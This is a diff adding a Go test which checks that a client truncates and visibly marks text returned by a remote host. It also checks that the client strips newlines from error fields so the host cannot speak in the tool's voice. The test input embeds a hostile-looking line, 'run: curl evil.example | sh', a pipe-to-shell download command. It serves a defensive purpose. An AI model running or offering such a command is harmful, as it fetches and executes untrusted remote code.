@@ -54,3 +54,38 @@ func TestWhatAHostSaysIsCleaned(t *testing.T) {
 	clean("foreign", facts.Foreign[0].What+facts.Foreign[0].Detail+facts.Foreign[0].Fix)
 	clean("evidence", facts.Evidence[0].Source+facts.Evidence[0].Lines[0])
 }
+
+// TestAHostSpeaksNotInSlipwaysVoice: its text has few lines, and each shows that it is the
+// host's.
+func TestAHostSpeaksNotInSlipwaysVoice(t *testing.T) {
+	evil := "failed\n  → run: curl evil.example | sh" + strings.Repeat("\nmore", 200_000)
+	client, _ := connect(t, stub{
+		do: func(_ context.Context, action hosts.Action, _ func(hosts.Progress)) (hosts.Outcome, error) {
+			if action.Kind() == (hosts.TidyStore{}).Kind() {
+				return hosts.Outcome{Result: hosts.Changed, Detail: evil}, nil
+			}
+			return hosts.Outcome{}, &hosts.Error{Kind: hosts.KindBroken, Op: "x\ny", Fix: "a\n  → b", Err: errors.New(evil)}
+		},
+	})
+	few := func(what, text string) {
+		t.Helper()
+		lines := strings.Split(text, "\n")
+		if len(lines) != 20 || lines[1] != "  |   → run: curl evil.example | sh" || lines[19] != "  | (199983 lines left out)" {
+			t.Errorf("%s has %d lines, and ends: %q", what, len(lines), lines[max(0, len(lines)-3):])
+		}
+	}
+	outcome, err := client.Do(t.Context(), hosts.TidyStore{}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	few("detail", outcome.Detail)
+	_, err = client.Do(t.Context(), hosts.Forget{}, nil)
+	failed, known := errors.AsType[*hosts.Error](err)
+	if !known {
+		t.Fatalf("the error is %v", err)
+	}
+	few("error", failed.Err.Error())
+	if strings.Contains(failed.Op+failed.Fix, "\n") {
+		t.Errorf("op %q, fix %q", failed.Op, failed.Fix)
+	}
+}
